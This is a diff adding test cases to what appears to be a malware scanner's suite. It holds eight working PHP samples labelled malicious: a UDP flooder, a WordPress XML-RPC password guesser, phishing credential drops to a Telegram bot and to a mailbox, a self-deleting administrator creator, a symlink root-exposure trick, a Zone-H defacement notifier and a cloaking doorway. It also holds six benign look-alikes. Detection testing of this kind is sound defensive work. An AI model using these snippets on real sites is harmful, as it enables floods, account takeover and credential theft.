@@ -229,3 +229,98 @@ describe('scan: session 43 samples, the misses written again', () => {
     assert.match(lines[(flow.line ?? 0) - 1] ?? '', /fwrite\(\$fa, \$page\)/);
   });
 });
+
+// Families no sample of this session held but every collection does, written by us from their published shapes, and
+// the ordinary code each must not be confused with.
+const FAMILIES: [string, string, string][] = [
+  [
+    'the symlink bypass: the server\'s root linked into the site, with an .htaccess that lists it',
+    '/srv/www/sym.php',
+    `<?php\n@mkdir('s', 0777);\n@symlink('/', 's/root');\nfile_put_contents('s/.htaccess', "Options Indexes FollowSymLinks\\nDirectoryIndex none.htm\\n");\necho '<a href="s/root/">/</a>';\n`,
+  ],
+  [
+    'a Zone-H notifier posting a list of defaced sites under a nick',
+    '/srv/www/zh.php',
+    `<?php\nforeach (explode("\\n", $_POST['sites']) as $s) {\n  $c = curl_init('http://www.zone-h.org/notify/single');\n  curl_setopt($c, CURLOPT_POST, 1);\n  curl_setopt($c, CURLOPT_POSTFIELDS, 'defacer=' . urlencode($_POST['nick']) . '&domain1=' . urlencode(trim($s)) . '&hackmode=1&reason=1');\n  curl_exec($c);\n}\n`,
+  ],
+  [
+    'a UDP flooder: the request\'s host, random ports, a large payload, until the clock says stop',
+    '/srv/www/f.php',
+    `<?php\nset_time_limit(0);\n$to = $_GET['h'];\n$stop = time() + (int) $_GET['t'];\n$data = str_repeat('Z', 60000);\nwhile (time() < $stop) {\n  $s = @fsockopen('udp://' . $to, mt_rand(1, 65535), $e, $m, 3);\n  if ($s) { fwrite($s, $data); fclose($s); }\n}\n`,
+  ],
+  [
+    'a WordPress XML-RPC password guesser over a posted list',
+    '/srv/www/x.php',
+    `<?php\n$site = $_POST['site'];\nforeach (explode("\\n", $_POST['words']) as $w) {\n  $body = '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>' . htmlspecialchars(trim($w)) . '</value></param></params></methodCall>';\n  $c = curl_init($site . '/xmlrpc.php');\n  curl_setopt($c, CURLOPT_POSTFIELDS, $body);\n  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n  if (strpos((string) curl_exec($c), 'isAdmin') !== false) { echo 'hit: ' . htmlspecialchars($w); break; }\n}\n`,
+  ],
+  [
+    'a phishing kit\'s drop: the password and the visitor\'s address to a Telegram bot, then the real site',
+    '/srv/www/login/next.php',
+    `<?php\n$t = "user: " . $_POST['login'] . "\\npass: " . $_POST['passwd'] . "\\nfrom: " . $_SERVER['REMOTE_ADDR'];\nfile_get_contents('https://api.telegram.org/bot0000:placeholder/sendMessage?chat_id=1&text=' . urlencode($t));\nheader('Location: https://mail.example.invalid/');\n`,
+  ],
+  [
+    'the same drop by mail to an address held in a variable',
+    '/srv/www/login/post.php',
+    `<?php\n$box = 'drop@example.invalid';\n$m = "Email: {$_POST['email']}\\nPassword: {$_POST['password']}\\nIP: {$_SERVER['REMOTE_ADDR']}\\nAgent: {$_SERVER['HTTP_USER_AGENT']}";\nmail($box, 'result', $m);\nheader('Location: https://portal.example.invalid/');\n`,
+  ],
+  [
+    'a one-shot WordPress administrator maker that deletes itself',
+    '/srv/www/wp-admin/up.php',
+    `<?php\nrequire __DIR__ . '/../wp-load.php';\n$id = wp_insert_user(['user_login' => 'helpdesk', 'user_pass' => 'Changeme-1', 'role' => 'administrator']);\n@unlink(__FILE__);\n`,
+  ],
+  [
+    'a search doorway: crawlers get another site\'s pages, visitors from a search are sent to a shop',
+    '/srv/www/wp-content/index2.php',
+    `<?php\n$q = $_GET['q'] ?? '';\n$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';\nif (preg_match('/googlebot|bingbot/i', $agent)) { echo file_get_contents('http://feed.example.invalid/p.php?q=' . urlencode($q)); exit; }\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'] ?? '')) { header('Location: https://shop.example.invalid/?q=' . urlencode($q)); exit; }\n`,
+  ],
+];
+
+const FAMILY_LOOKALIKES: [string, string, string][] = [
+  [
+    'a deployment linking a release into place',
+    '/srv/deploy/switch.php',
+    `<?php\n$rel = '/var/www/releases/' . basename($argv[1]);\n@unlink('/var/www/current');\nsymlink($rel, '/var/www/current');\nsymlink('/var/www/shared/uploads', $rel . '/uploads');\n`,
+  ],
+  [
+    'a site monitor looking its own domain up in Zone-H\'s archive',
+    '/srv/www/admin/monitor.php',
+    `<?php\n$me = 'shop.example.com';\n$page = file_get_contents('https://www.zone-h.org/archive/domain=' . urlencode($me));\nif (strpos($page, $me) !== false) mail('ops@example.com', 'defacement reported', $me);\n`,
+  ],
+  [
+    'a StatsD client sending a metric over UDP',
+    '/srv/www/lib/stats.php',
+    `<?php\nfunction stat_count(string $name, int $n = 1): void {\n  $s = @fsockopen('udp://' . (getenv('STATSD_HOST') ?: '127.0.0.1'), 8125, $e, $m, 1);\n  if (!$s) return;\n  fwrite($s, str_repeat(' ', 0) . "$name:$n|c");\n  fclose($s);\n}\nstat_count('page.' . preg_replace('/\\W/', '_', $_GET['p'] ?? 'home'));\n`,
+  ],
+  [
+    'a blog client posting one article through XML-RPC',
+    '/srv/www/tools/publish.php',
+    `<?php\n$cfg = require __DIR__ . '/config.php';\n$x = xmlrpc_encode_request('wp.newPost', [1, $cfg['user'], $cfg['pass'], ['post_title' => $_POST['title'], 'post_content' => $_POST['body']]]);\n$c = curl_init($cfg['site'] . '/xmlrpc.php');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $x);\nforeach ([1, 2, 3] as $try) if (curl_exec($c) !== false) break;\n`,
+  ],
+  [
+    'a sign-up page mailing the new member their login and sending them on',
+    '/srv/www/signup.php',
+    `<?php\n$admin = 'webmaster@example.com';\n$db = new PDO('sqlite:' . __DIR__ . '/members.db');\n$db->prepare('INSERT INTO members (email, hash, ip) VALUES (?, ?, ?)')->execute([$_POST['email'], password_hash($_POST['password'], PASSWORD_DEFAULT), $_SERVER['REMOTE_ADDR']]);\nmail($_POST['email'], 'Welcome', "Your login: {$_POST['email']}\\nYour password: {$_POST['password']}");\nmail($admin, 'New member', $_POST['email']);\nheader('Location: https://www.example.com/welcome');\n`,
+  ],
+  [
+    'a renderer serving crawlers a prerendered copy of the page',
+    '/srv/www/prerender.php',
+    `<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {\n  echo file_get_contents('https://prerender.example.com/render?url=' . urlencode('https://www.example.com' . $_SERVER['REQUEST_URI']));\n  exit;\n}\nrequire __DIR__ . '/app.php';\n`,
+  ],
+];
+
+describe('scan: common families written from their published shapes (session 43)', () => {
+  for (const [name, path, src] of FAMILIES) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every family', () => assert.equal(FAMILIES.length, 8));
+  for (const [name, path, src] of FAMILY_LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 6));
+});
